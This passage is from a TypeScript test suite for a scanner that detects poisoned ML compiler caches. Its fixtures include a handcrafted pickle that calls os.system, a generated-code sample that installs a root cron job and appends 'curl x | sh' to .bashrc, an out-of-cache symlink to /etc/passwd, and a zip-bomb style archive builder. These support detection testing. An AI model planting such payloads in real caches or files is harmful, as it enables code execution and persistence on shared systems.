// Tests for compiled caches as input: fixtures/caches/make_caches.py writes benign and poisoned caches of every
// kind into a temp folder (modes and owners do not survive git); the scan must report exactly the poisoned
// entries with their opcode, offset, mode and owner evidence, keep benign ones quiet, and never unpickle.
import { strict as assert } from 'node:assert';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { type CacheFinding, type CacheScanContext, type CacheScanResult, loadCacheKinds, nameMatcher, NESTED_DEPTH, scanCacheTrees } from '../../server/src/engine/cacheTrees';
import { CatalogError, loadCatalog } from '../../server/src/engine/rules/catalog';
import { bufferSource, readZipDirectory, readZipEntry, ZipError } from '../../server/src/engine/zip';

const REPO = path.resolve(__dirname, '..', '..');
const SCRIPT = path.join(REPO, 'fixtures', 'caches', 'make_caches.py');
const HAS_PYTHON = spawnSync('python3', ['--version']).status === 0;
const MIB = 1024 * 1024;
const catalog = loadCatalog();
const kinds = loadCacheKinds(catalog.dir, catalog);

interface Expected {
  findings: Record<string, unknown>[];
  warnings: { code: string; path: string; contains: string }[];
  ownerCase: boolean;
  trees: { path: string; kind: string }[];
  benignRoots: string[];
}

function tempDir(name: string): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), `sentinel-${name}-`));
}

function makeCaches(dir: string): Expected {
  execFileSync('python3', [SCRIPT, dir], { stdio: ['ignore', 'ignore', 'inherit'] });
  return JSON.parse(fs.readFileSync(path.join(dir, 'expected.json'), 'utf8')) as Expected;
}

function scan(roots: string[], base: string, extra: Partial<CacheScanContext> = {}): Promise<CacheScanResult> {
  return scanCacheTrees(roots, {
    baseDir: base,
    display: (abs) => path.relative(base, abs).split(path.sep).join('/') || '.',
    catalog,
    maxEntryBytes: MIB,
    ...extra,
  });
}

/** The parts of a finding expected.json pins, per check. */
function summary(f: CacheFinding): Record<string, unknown> {
  const c = f.evidence.cache;
  const out: Record<string, unknown> = { check: c.check, path: f.evidence.path, kind: c.kind, entry: c.entry, confidence: f.confidence };
  if (c.member !== undefined) out.member = c.member;
  if (c.check === 'pickle-import') Object.assign(out, { opcode: c.opcode, offset: c.offset, import: c.import, ...(c.call ? { call: c.call } : {}) });
  if (c.check === 'generated-code') Object.assign(out, { import: c.import, line: c.line ?? f.evidence.startLine });
  if (c.check === 'writable') out.mode = f.evidence.mode;
  if (c.check === 'foreign-owner') Object.assign(out, { uid: c.uid, mode: f.evidence.mode });
  if (c.check === 'symlink-out' || c.check === 'group-path') out.target = c.target;
  return out;
}

function sortByJson<T>(items: T[]): T[] {
  return [...items].sort((a, b) => {
    const x = JSON.stringify(a, Object.keys(a as object).sort());
    const y = JSON.stringify(b, Object.keys(b as object).sort());
    return x < y ? -1 : x > y ? 1 : 0;
  });
}

function canonical(o: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.keys(o).sort().map((k) => [k, o[k]]));
}

describe('cache trees: generated fixtures', function () {
  let dir = '';
  let expected: Expected;
  let result: CacheScanResult;
  const tree = (): string => path.join(dir, 'tree');
  const marker = (): string => path.join(dir, 'UNPICKLED');

  before(async function () {
    if (!HAS_PYTHON) {
      console.log('      skipped: python3 is not installed (fixtures/caches/make_caches.py writes the caches)');
      this.skip();
    }
    dir = tempDir('caches');
    expected = makeCaches(dir);
    // The poisoned pickles run `touch "$SENTINEL_UNPICKLE_MARKER"` if anything ever loads them.
    process.env.SENTINEL_UNPICKLE_MARKER = marker();
    result = await scan([tree()], tree());
  });

  after(() => {
    delete process.env.SENTINEL_UNPICKLE_MARKER;
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('recognises every cache kind by its layout, and nothing else', () => {
    const got = result.trees.map((t) => ({ path: t.path, kind: t.kind }));
    assert.deepEqual(sortByJson(got), sortByJson(expected.trees));
    assert.deepEqual([...new Set(got.map((t) => t.kind))].sort(), ['cupy', 'inductor', 'mega-cache', 'numba', 'torch-archive', 'torch-extensions', 'triton']);
    for (const t of result.trees) assert.ok(t.entries > 0, `${t.path} has entries`);
    assert.ok(!result.trees.some((t) => t.path.startsWith('benign/notes')), 'a .bin that is neither zip nor pickle is no cache');
  });

  it('reports exactly the poisoned entries, with opcode, offset, name, mode, owner and target evidence', () => {
    const want = expected.findings.map((f) => canonical(f.check === 'symlink-out' ? { ...f, target: fs.realpathSync(String(f.target)) } : f));
    assert.deepEqual(sortByJson(result.findings.map((f) => canonical(summary(f)))), sortByJson(want));
    assert.equal(result.findings.filter((f) => f.evidence.cache.check === 'foreign-owner').length, expected.ownerCase ? 1 : 0);
  });

  it('gives high confidence to code-running imports that are called, medium to other foreign globals', () => {
    const pickles = result.findings.filter((f) => f.evidence.cache.check === 'pickle-import');
    for (const f of pickles) {
      const runsCode = kinds.codeRunning(f.evidence.cache.import!);
      assert.equal(f.confidence, runsCode && f.evidence.cache.call?.opcode === 'REDUCE' ? 'high' : 'medium', f.evidence.signal);
    }
    const system = pickles.find((f) => f.evidence.cache.kind === 'inductor')!;
    assert.equal(system.evidence.api, 'os.system');
    assert.equal(system.evidence.nodeType, 'STACK_GLOBAL');
    assert.match(system.evidence.signal, /imports `os\.system` \(STACK_GLOBAL at byte \d+\) and calls it \(REDUCE at byte \d+\)/);
    const collector = pickles.find((f) => f.evidence.cache.kind === 'numba')!;
    assert.match(collector.evidence.signal, /outside what Numba cache entries contain/);
  });

  it('keeps every benign cache of every kind quiet', () => {
    const benign = (p: string): boolean => expected.benignRoots.some((r) => p === r || p.startsWith(`${r}/`));
    assert.deepEqual(result.findings.filter((f) => benign(f.evidence.path)).map((f) => f.evidence.signal), []);
    assert.deepEqual(result.warnings.filter((w) => benign(w.path)), []);
  });

  it('warns about truncated, malformed and oversized pickles with the file and the offset, and about nothing else', () => {
    assert.equal(result.warnings.length, expected.warnings.length, JSON.stringify(result.warnings, null, 1));
    for (const w of expected.warnings) {
      const hit = result.warnings.find((r) => r.code === w.code && r.path === w.path);
      assert.ok(hit, `no ${w.code} warning for ${w.path}: ${JSON.stringify(result.warnings, null, 1)}`);
      assert.ok(hit.message.includes(w.contains), `${hit.message} does not say ${w.contains}`);
      if (w.code === 'parse-error') assert.match(hit.message, /at byte \d+/);
    }
  });

  it('never unpickles: the poisoned payloads would create a marker file, and it never appears', () => {
    const poisoned = fs.readFileSync(path.join(tree(), 'poisoned', 'warm_start.megacache'));
    assert.ok(poisoned.includes('SENTINEL_UNPICKLE_MARKER'), 'the payload is in the fixture');
    assert.equal(fs.existsSync(marker()), false);
  });

  it('produces complete findings under the rule cache-kinds.yml names, decision report', () => {
    const card = catalog.byId.get(kinds.rule)!;
    const seen = new Set<string>();
    for (const f of result.findings) {
      assert.equal(f.ruleId, card.id);
      assert.equal(f.severity, card.severity);
      assert.equal(f.cwe, card.cwe);
      assert.equal(f.retest, card.retest);
      assert.equal(f.decision, 'report');
      assert.deepEqual(f.trace, []);
      assert.match(f.fingerprint, /^[0-9a-f]{32}$/);
      assert.ok(!seen.has(f.fingerprint), 'fingerprints are unique');
      seen.add(f.fingerprint);
      assert.ok(f.evidence.startLine >= 1 && f.evidence.startColumn >= 1);
      assert.ok(f.evidence.signal.length > 40 && f.evidence.snippet.length > 0);
      assert.ok(!path.isAbsolute(f.evidence.path));
    }
    const writable = result.findings.find((f) => f.evidence.cache.check === 'writable')!;
    assert.deepEqual([writable.evidence.mode, writable.evidence.directory, writable.evidence.nodeType], ['0777', 'poisoned/triton_shared', 'directory']);
    const code = result.findings.find((f) => f.evidence.cache.check === 'generated-code' && !f.evidence.cache.member)!;
    assert.match(code.evidence.snippet, /^import subprocess$|^subprocess\.Popen/);
    assert.equal(code.evidence.startColumn, 1);
  });

  it('gives the same fingerprints on another machine, and a new one when an entry is replaced', async () => {
    const other = tempDir('caches-b');
    try {
      makeCaches(other);
      const again = await scan([path.join(other, 'tree')], path.join(other, 'tree'));
      const key = (f: CacheFinding): string => `${f.evidence.cache.check} ${f.evidence.path} ${f.evidence.cache.member ?? ''} ${f.evidence.cache.import ?? ''}`;
      const fingerprints = (r: CacheScanResult): string[] => r.findings.map((f) => `${key(f)} ${f.fingerprint}`).sort();
      assert.deepEqual(fingerprints(again), fingerprints(result));
      // Replace the poisoned FX graph entry: it gets another name, so its finding gets another fingerprint.
      const system = again.findings.find((f) => f.evidence.cache.check === 'pickle-import' && f.evidence.cache.kind === 'inductor')!;
      const abs = path.join(other, 'tree', system.evidence.path);
      fs.renameSync(abs, path.join(path.dirname(abs), 'replacedentry'));
      const third = await scan([path.join(other, 'tree')], path.join(other, 'tree'));
      const replaced = third.findings.find((f) => f.evidence.cache.check === 'pickle-import' && f.evidence.cache.kind === 'inductor')!;
      assert.notEqual(replaced.fingerprint, system.fingerprint);
      const unchanged = (r: CacheScanResult): string[] => r.findings.filter((f) => f !== system && f !== replaced).map((f) => f.fingerprint).sort();
      assert.deepEqual(unchanged(third), unchanged(again));
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  it('knows the cache when the scan starts inside it, at a folder or at one entry', async () => {
    const full = result.findings.find((f) => f.evidence.cache.check === 'pickle-import' && f.evidence.cache.kind === 'inductor')!;
    const inside = await scan([path.join(tree(), 'poisoned', 'torchinductor_mallory', 'fxgraph')], tree());
    const same = inside.findings.find((f) => f.evidence.cache.check === 'pickle-import');
    assert.equal(same?.fingerprint, full.fingerprint);
    assert.equal(same?.evidence.cache.entry, full.evidence.cache.entry);
    assert.deepEqual(inside.trees.map((t) => [t.path, t.kind]), [['poisoned/torchinductor_mallory', 'inductor']]);
    const one = await scan([path.join(tree(), full.evidence.path)], tree());
    assert.deepEqual(one.findings.map((f) => f.fingerprint), [full.fingerprint]);
  });

  it('lists generated code and source copies for the source rules', () => {
    const rel = result.sources.map((s) => path.relative(tree(), s).split(path.sep).join('/'));
    assert.ok(rel.some((s) => /^poisoned\/torchinductor_mallory\/[a-z0-9]{2}\/c[a-z0-9]{51}\.py$/.test(s)), rel.join('\n'));
    assert.ok(rel.includes('benign/home/.cache/torch_extensions/py311_cu121/fused_gelu/main.cpp'));
    assert.ok(rel.some((s) => s.startsWith('benign/home/.cupy/kernel_cache/') && s.endsWith('.cubin.cu')));
  });

  it('warns when a mega-cache checksum does not match, and still checks its artifacts', async () => {
    const copy = tempDir('mega');
    try {
      const data = fs.readFileSync(path.join(tree(), 'poisoned', 'warm_start.megacache'));
      data[0] ^= 0xff; // the CRC32 itself: the content stays intact
      fs.writeFileSync(path.join(copy, 'warm_start.megacache'), data);
      const r = await scan([copy], copy);
      assert.deepEqual(r.warnings.map((w) => [w.code, w.path]), [['parse-error', 'warm_start.megacache']]);
      assert.match(r.warnings[0]!.message, /checksum does not match/);
      assert.deepEqual(r.findings.map((f) => f.evidence.cache.import), ['os.system']);
    } finally {
      fs.rmSync(copy, { recursive: true, force: true });
    }
  });

  it('reads zip64 and deflated archives written by Python, and reports damaged ones', async function () {
    const zdir = tempDir('zip');
    try {
      const file = path.join(zdir, 'z.zip');
      execFileSync('python3', ['-c', [
        'import sys, zipfile',
        'with zipfile.ZipFile(sys.argv[1], "w", compression=zipfile.ZIP_DEFLATED) as z:',
        '    with z.open("archive/data.pkl", "w", force_zip64=True) as f: f.write(b"\\x80\\x02N." * 1000)',
        '    z.writestr("archive/version", "3\\n", compress_type=zipfile.ZIP_STORED)',
      ].join('\n'), file]);
      const buf = fs.readFileSync(file);
      const entries = readZipDirectory(bufferSource(buf));
      assert.deepEqual(entries.map((e) => [e.name, e.method, e.uncompressedSize]), [['archive/data.pkl', 8, 4000], ['archive/version', 0, 2]]);
      const data = await readZipEntry(bufferSource(buf), entries[0]!, MIB);
      assert.deepEqual([data.data.length, data.truncated, data.data.subarray(0, 4).toString('hex')], [4000, false, '80024e2e']);
      const head = await readZipEntry(bufferSource(buf), entries[0]!, 100);
      // A deflated member over the limit is inflated up to the limit, not skipped.
      assert.deepEqual([head.data.length, head.truncated, head.data.subarray(0, 4).toString('hex')], [100, true, '80024e2e']);
      const stored = await readZipEntry(bufferSource(buf), entries[1]!, 1);
      assert.deepEqual([stored.data.toString(), stored.truncated], ['3', true]);
      assert.throws(() => readZipDirectory(bufferSource(buf.subarray(0, buf.length - 30))), ZipError);
      assert.throws(() => readZipDirectory(bufferSource(Buffer.from('PK\x03\x04 not really a zip'))), /end-of-central-directory/);
    } finally {
      fs.rmSync(zdir, { recursive: true, force: true });
    }
  });
});

/** A zip archive with stored members, as torch.save writes them (CRCs left 0: the reader does not check them). */
function storedZip(members: [string, Buffer][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of members) {
    const n = Buffer.from(name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(n.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(n.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, n, data);
    centrals.push(central, n);
    offset += 30 + n.length + data.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/** `os.system('id')` through STACK_GLOBAL (protocol 4): STACK_GLOBAL at byte 16, REDUCE at byte 24. */
const SYSTEM_PICKLE = Buffer.concat([
  Buffer.from([0x80, 4, 0x8c, 2]), Buffer.from('os'), Buffer.from([0x94, 0x8c, 6]), Buffer.from('system'),
  Buffer.from([0x94, 0x93, 0x94, 0x8c, 2]), Buffer.from('id'), Buffer.from([0x94, 0x85]), Buffer.from('R.'),
]);

/** A protocol 4 pickle holding `payload` as a bytes value (BINBYTES at byte 2, payload from byte 7). */
function bytesPickle(payload: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32LE(payload.length);
  return Buffer.concat([Buffer.from([0x80, 4, 0x42]), len, payload, Buffer.from('.')]);
}

describe('cache trees: built here', () => {
  const dirs: string[] = [];
  const fresh = (name: string): string => {
    const d = tempDir(name);
    dirs.push(d);
    return d;
  };
  after(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

  /** A Numba cache folder with one valid index (two tiny pickles). */
  function numbaCache(root: string, mode: number): void {
    fs.mkdirSync(root, { recursive: true });
    fs.writeFileSync(path.join(root, 'k.f-1.py311.nbi'), Buffer.from([0x80, 5, 0x8c, 1, 0x31, 0x2e, 0x80, 5, 0x4e, 0x2e]));
    fs.chmodSync(root, mode);
  }

  it('lets sticky shared folders pass, flags group-writable ones as medium and sums up the entries below', async function () {
    if (process.platform === 'win32') this.skip();
    const base = fresh('perm');
    numbaCache(path.join(base, 'sticky'), 0o1777);
    const group = path.join(base, 'group');
    numbaCache(group, 0o775);
    for (const n of ['a', 'b', 'c']) {
      fs.writeFileSync(path.join(group, `${n}.nbc`), Buffer.from([0x80, 5, 0x4e, 0x2e]));
      fs.chmodSync(path.join(group, `${n}.nbc`), 0o664);
    }
    fs.writeFileSync(path.join(group, 'd.nbc'), Buffer.from([0x80, 5, 0x4e, 0x2e]));
    fs.chmodSync(path.join(group, 'd.nbc'), 0o666);
    const r = await scan([base], base);
    assert.deepEqual(
      r.findings.map((f) => [f.evidence.path, f.evidence.cache.check, f.evidence.mode, f.confidence]),
      [
        ['group', 'writable', '0775', 'medium'],
        ['group/d.nbc', 'writable', '0666', 'high'],
      ],
    );
    assert.match(r.findings[0]!.evidence.signal, /\(3 entries below it are writable too\)$/);
    assert.deepEqual(r.trees.map((t) => [t.path, t.kind]), [['group', 'numba'], ['sticky', 'numba']]);
  });

  it('reports a world-writable cache of every compiler kind as high, with its directory, mode and owner, and passes 0755 ones', async function () {
    if (process.platform === 'win32') this.skip();
    const base = fresh('kinds');
    const layouts: Record<string, (root: string) => void> = {
      triton: (root) => {
        fs.mkdirSync(path.join(root, 'Zk3hash'), { recursive: true });
        fs.writeFileSync(path.join(root, 'Zk3hash', 'add_kernel.ttir'), 'module {}\n');
      },
      'torch-extensions': (root) => {
        fs.mkdirSync(path.join(root, 'py311_cu121', 'fused_act'), { recursive: true });
        fs.writeFileSync(path.join(root, 'py311_cu121', 'fused_act', 'build.ninja'), 'ninja_required_version = 1.3\n');
      },
      cupy: (root) => {
        fs.mkdirSync(root, { recursive: true });
        fs.writeFileSync(path.join(root, `${'ab'.repeat(16)}.cubin`), Buffer.from([0x7f, 0x45, 0x4c, 0x46]));
      },
      inductor: (root) => {
        fs.mkdirSync(path.join(root, 'fxgraph', 'ab', 'fabcdef'), { recursive: true });
        fs.writeFileSync(path.join(root, 'fxgraph', 'ab', 'fabcdef', 'entry'), Buffer.from([0x80, 5, 0x4e, 0x2e]));
      },
    };
    for (const [kind, make] of Object.entries(layouts)) {
      for (const mode of [0o777, 0o755]) {
        const root = path.join(base, `${kind}-${mode.toString(8)}`, kind === 'inductor' ? 'torchinductor_svc' : 'cache');
        make(root);
        fs.chmodSync(root, mode);
      }
    }
    const r = await scan([base], base);
    const uid = String(process.getuid!());
    const writable = r.findings.filter((f) => f.evidence.cache.check === 'writable');
    assert.deepEqual(
      writable.map((f) => [f.evidence.cache.kind, f.evidence.path, f.evidence.directory, f.evidence.mode, f.evidence.owner, f.confidence]).sort(),
      Object.keys(layouts)
        .map((kind) => {
          const rel = `${kind}-777/${kind === 'inductor' ? 'torchinductor_svc' : 'cache'}`;
          return [kind, rel, rel, '0777', uid, 'high'];
        })
        .sort(),
    );
    for (const f of writable) assert.match(f.evidence.signal, /has mode 0777: any local user can add, rename or replace compiled entries in it, and it has no sticky bit/);
    // The 0755 twins are caches too (recognised, listed), only not findings.
    assert.equal(r.trees.filter((t) => t.path.includes('-755/')).length, Object.keys(layouts).length);
  });

  it('follows no symlink: links inside the cache and loops are fine, links out are findings', async function () {
    if (process.platform === 'win32') this.skip();
    const base = fresh('links');
    const root = path.join(base, 'cache');
    numbaCache(root, 0o755);
    fs.mkdirSync(path.join(root, 'sub'));
    fs.symlinkSync('../k.f-1.py311.nbi', path.join(root, 'sub', 'inside.nbi'));
    fs.symlinkSync('..', path.join(root, 'sub', 'loop'));
    fs.symlinkSync('/etc/passwd', path.join(root, 'sub', 'out.nbc'));
    fs.symlinkSync('../../nowhere/at/all', path.join(root, 'dangling'));
    const r = await scan([base], base);
    assert.deepEqual(r.findings.map((f) => [f.evidence.path, f.evidence.cache.check, f.evidence.cache.target]).sort(), [
      ['cache/dangling', 'symlink-out', path.resolve(root, '../../nowhere/at/all')],
      ['cache/sub/out.nbc', 'symlink-out', fs.realpathSync('/etc/passwd')],
    ]);
    assert.equal(r.trees[0]?.entries, 7);
  });

  it('scans 20,000 entries with bounded work: one summarised finding, and memory that does not grow with the tree', async function () {
    if (process.platform === 'win32') this.skip();
    this.timeout(120000);
    const base = fresh('scale');
    const root = path.join(base, 'torchinductor_bulk');
    const tiny = Buffer.from([0x80, 4, 0x4e, 0x2e]);
    let files = 0;
    for (let a = 0; a < 100; a++) {
      for (let b = 0; b < 50; b++) {
        const keyDir = path.join(root, 'fxgraph', `p${a}`, `fkey${a}x${b}`);
        fs.mkdirSync(keyDir, { recursive: true, mode: 0o777 });
        fs.chmodSync(keyDir, 0o777);
        for (let c = 0; c < 3; c++) {
          fs.writeFileSync(path.join(keyDir, `entry${c}`), tiny, { mode: 0o666 });
          fs.chmodSync(path.join(keyDir, `entry${c}`), 0o666);
          files++;
        }
      }
      fs.chmodSync(path.join(root, 'fxgraph', `p${a}`), 0o777);
    }
    fs.chmodSync(path.join(root, 'fxgraph'), 0o777);
    fs.chmodSync(root, 0o777);
    const before = process.memoryUsage().heapUsed;
    const started = Date.now();
    const r = await scan([base], base);
    const elapsed = Date.now() - started;
    const grew = process.memoryUsage().heapUsed - before;
    const entries = 1 + 1 + 100 + 100 * 50 + files;
    assert.deepEqual(r.trees.map((t) => [t.path, t.entries]), [['torchinductor_bulk', entries]]);
    assert.equal(r.findings.length, 1);
    assert.match(r.findings[0]!.evidence.signal, new RegExp(`\\(${entries - 1} entries below it are writable too\\)`));
    assert.ok(elapsed < 60000, `took ${elapsed} ms`);
    assert.ok(grew < 200 * MIB, `heap grew by ${Math.round(grew / MIB)} MiB`);
    console.log(`      ${entries} entries in ${elapsed} ms, heap +${Math.round(grew / MIB)} MiB`);
    // An entry budget stops the scan with a warning instead of running on.
    const capped = await scan([base], base, { maxEntries: 1000 });
    assert.ok(capped.warnings.some((w) => w.code === 'too-large' && /stopped after 1000 entries/.test(w.message)));
  });

  it('stops when cancelled and says so', async () => {
    const base = fresh('cancel');
    numbaCache(path.join(base, 'cache'), 0o755);
    for (let i = 0; i < 600; i++) fs.writeFileSync(path.join(base, 'cache', `f${i}.pyc`), 'x');
    const r = await scan([base], base, { isCancelled: () => true });
    assert.equal(r.cancelled, true);
  });

  it('leaves out excluded paths, and does nothing when the cache rule is not enabled', async () => {
    const base = fresh('off');
    numbaCache(path.join(base, 'cache'), 0o777);
    assert.equal((await scan([base], base)).findings.length, 1);
    assert.equal((await scan([base], base, { isExcluded: (abs) => abs.endsWith(`${path.sep}cache`) })).findings.length, 0);
    const others = new Map(catalog.rules.filter((r) => r.id !== kinds.rule).map((r) => [r.id, r]));
    const r = await scan([base], base, { enabled: others });
    assert.deepEqual([r.findings, r.trees, r.warnings], [[], [], []]);
  });

  it("finds no cache in the repository's own fixtures", async () => {
    const r = await scan([path.join(REPO, 'fixtures')], REPO);
    assert.deepEqual([r.trees, r.findings, r.warnings], [[], [], []]);
  });

  it('disassembles pickles and zip archives nested in a pickle, and ignores bytes that only look like one', async () => {
    const base = fresh('nested');
    numbaCache(path.join(base, 'cache'), 0o755);
    fs.writeFileSync(path.join(base, 'cache', 'a.nbc'), bytesPickle(SYSTEM_PICKLE));
    fs.writeFileSync(path.join(base, 'cache', 'b.nbc'), bytesPickle(storedZip([['archive/data.pkl', SYSTEM_PICKLE], ['archive/version', Buffer.from('3\n')]])));
    fs.writeFileSync(path.join(base, 'cache', 'c.nbc'), bytesPickle(Buffer.from([0x80, 4, 0xff, 0x00, 0x13, 0x37])));
    const r = await scan([base], base);
    assert.deepEqual(
      r.findings.map((f) => [f.evidence.path, f.evidence.cache.member, f.evidence.cache.import, f.evidence.cache.offset, f.evidence.cache.call?.offset, f.confidence]),
      [
        ['cache/a.nbc', 'pickle at byte 7', 'os.system', 23, 31, 'high'],
        ['cache/b.nbc', 'zip archive at byte 7 > archive/data.pkl', 'os.system', 16, 24, 'high'],
      ],
    );
    assert.deepEqual(r.warnings, []);
  });

  it('checks generated code: what a compiler writes stays quiet, what it never writes is reported', async () => {
    const base = fresh('gen');
    const root = path.join(base, 'torchinductor_ci');
    fs.mkdirSync(path.join(root, 'ab'), { recursive: true });
    const inside = path.join(fs.realpathSync(base), 'torchinductor_ci', 'ab', 'scratch.bin');
    const code = [
      'from ctypes import c_void_p, c_long',
      'import os',
      'import tempfile',
      'import torch',
      'from os import system',
      'from torch._inductor.async_compile import AsyncCompile',
      'from pathlib import Path',
      'cache = os.environ.get("TORCHINDUCTOR_CACHE_DIR")',
      `open(${JSON.stringify(inside)}, "wb").write(b"")`,
      'open("/etc/cron.d/job", "w").write("* * * * * root sh /tmp/x")',
      'open("/etc/hostname").read()',
      'os.makedirs("/home/u/.ssh", exist_ok=True)',
      'Path("/home/u/.bashrc").write_text("curl x | sh")',
      'eval(input())',
      '',
    ].join('\n');
    fs.writeFileSync(path.join(root, 'ab', 'cabc.py'), code);
    const r = await scan([base], base);
    assert.deepEqual(
      r.findings.map((f) => [f.evidence.startLine, f.evidence.api]),
      [
        [5, 'os.system'],
        [10, 'builtins.open'],
        [12, 'os.makedirs'],
        [13, '.write_text'],
        [14, 'builtins.eval'],
      ],
    );
    assert.deepEqual(r.sources.map((p) => path.basename(p)), ['cabc.py']);
  });

  it('warns about Triton group metadata that is not JSON', async () => {
    const base = fresh('grp');
    const entry = path.join(base, 'cache', 'ABCDEF');
    fs.mkdirSync(entry, { recursive: true });
    fs.writeFileSync(path.join(entry, '__grp__k.json'), '{"child_paths": ');
    const r = await scan([base], base);
    assert.deepEqual(r.warnings.map((w) => [w.code, w.path]), [['parse-error', 'cache/ABCDEF/__grp__k.json']]);
  });
});

describe('cache-kinds.yml', () => {
  function broken(edit: (text: string) => string): string {
    const dir = tempDir('kinds');
    for (const f of fs.readdirSync(catalog.dir)) fs.copyFileSync(path.join(catalog.dir, f), path.join(dir, f));
    const file = path.join(dir, 'cache-kinds.yml');
    fs.writeFileSync(file, edit(fs.readFileSync(file, 'utf8')));
    return dir;
  }

  const cases: [string, (t: string) => string, string, RegExp][] = [
    ['a missing field', (t) => t.replace(/^rule: .*$/m, ''), 'rule', /required but missing/],
    ['an unknown field', (t) => t.replace(/^codeRunning:/m, 'colour: red\ncodeRunning:'), 'colour', /not a known field/],
    ['a bad global pattern', (t) => t.replace('  - subprocess.*\n', '  - "subprocess; rm"\n'), 'codeRunning.3', /module\.name/],
    ['a marker glob with **', (t) => t.replace('- glob: fxgraph/*/*/*', '- glob: "fxgraph/**"'), 'kinds.inductor.markers.0.glob', /without `\*\*`/],
    ['a marker regex that does not compile', (t) => t.replace("- regex: '^[0-9a-f]{32}", "- regex: '^[0-9a-f]{32}(("), 'kinds.cupy.markers.0.regex', /regular expression/],
    ['an unknown entry class', (t) => t.replace('as: triton-group', 'as: kernel'), 'kinds.triton.entries.0.as', /must be one of/],
    ['a mega-cache artifact of an unknown kind', (t) => t.replace('aot_autograd: inductor', 'aot_autograd: inductr'), 'megaCache.pickledArtifacts.aot_autograd', /unknown cache kind/],
    ['a module loader without its argument', (t) => t.replace('- { api: cuModuleLoadData, arg: 1 }', '- { api: cuModuleLoadData }'), 'moduleLoading.images.0.arg', /required but missing/],
    ['a reader-name regex that does not compile', (t) => t.replace(/^ {2}readerNames: .*$/m, "  readerNames: '(read'"), 'moduleLoading.readerNames', /regular expression/],
    ['a cache-folder name regex that does not compile', (t) => t.replace(/^ {2}cacheDirNames: .*$/m, "  cacheDirNames: '[triton'"), 'config.cacheDirNames', /regular expression/],
    ['a mode call without its mode argument', (t) => t.replace('- { api: os.chmod, path: 0, mode: 1, modeKeyword: mode }', '- { api: os.chmod, path: 0 }'), 'config.modeCalls.2.mode', /required but missing/],
  ];
  for (const [what, edit, field, reason] of cases) {
    it(`rejects ${what}, naming the file and the field`, () => {
      const dir = broken(edit);
      try {
        assert.throws(
          () => loadCacheKinds(dir),
          (err: unknown) => err instanceof CatalogError && err.file === path.join(dir, 'cache-kinds.yml') && err.field === field && reason.test(err.message),
        );
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    });
  }

  it('rejects a rule the catalog does not have', () => {
    const dir = broken((t) => t.replace(/^rule: .*$/m, 'rule: JIT-NO-SUCH-RULE'));
    try {
      assert.throws(() => loadCacheKinds(dir, catalog), (err: unknown) => err instanceof CatalogError && err.field === 'rule' && /JIT-NO-SUCH-RULE/.test(err.message));
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('rejects a module-loading rule the catalog does not have', () => {
    const dir = broken((t) => t.replace(/^ {2}rule: JIT-DYNAMIC-KERNEL$/m, '  rule: JIT-NO-SUCH-KERNEL-RULE'));
    try {
      assert.throws(
        () => loadCacheKinds(dir, catalog),
        (err: unknown) => err instanceof CatalogError && err.field === 'moduleLoading.rule' && /JIT-NO-SUCH-KERNEL-RULE/.test(err.message),
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('matches global names as documented: module wildcards, part wildcards, exact names', () => {
    const m = nameMatcher(['os.*', 'torch.*Storage', 'builtins.eval']);
    assert.deepEqual(
      ['os.system', 'os.path.join', 'osx.foo', 'torch.FloatStorage', 'torch.storage.FloatStorage', 'builtins.eval', 'builtins.evaluate'].map((q) => m(q)),
      [true, true, false, true, false, true, false],
    );
  });
});

interface ZipMember {
  name: string;
  data: Buffer;
  deflate?: boolean;
  /** The uncompressed size the headers declare, when it should lie. */
  declared?: number;
}

/**
 * A zip archive whose members may be deflated; the central directory lists every member `listed` times
 * (copies named `<name>.<i>.pkl` that all point at the one local record, as zip bombs do).
 */
function zipOf(members: ZipMember[], listed = 1): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  let count = 0;
  for (const m of members) {
    const body = m.deflate ? zlib.deflateRawSync(m.data) : m.data;
    const n = Buffer.from(m.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(m.deflate ? 8 : 0, 8);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(m.declared ?? m.data.length, 22);
    local.writeUInt16LE(n.length, 26);
    for (let i = 0; i < listed; i++) {
      const cn = Buffer.from(listed === 1 ? m.name : `${m.name}.${i}.pkl`);
      const central = Buffer.alloc(46);
      central.writeUInt32LE(0x02014b50, 0);
      central.writeUInt16LE(m.deflate ? 8 : 0, 10);
      central.writeUInt32LE(body.length, 20);
      central.writeUInt32LE(m.declared ?? m.data.length, 24);
      central.writeUInt16LE(cn.length, 28);
      central.writeUInt32LE(offset, 42);
      centrals.push(central, cn);
      count++;
    }
    locals.push(local, n, body);
    offset += 30 + n.length + body.length;
  }
  const dir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
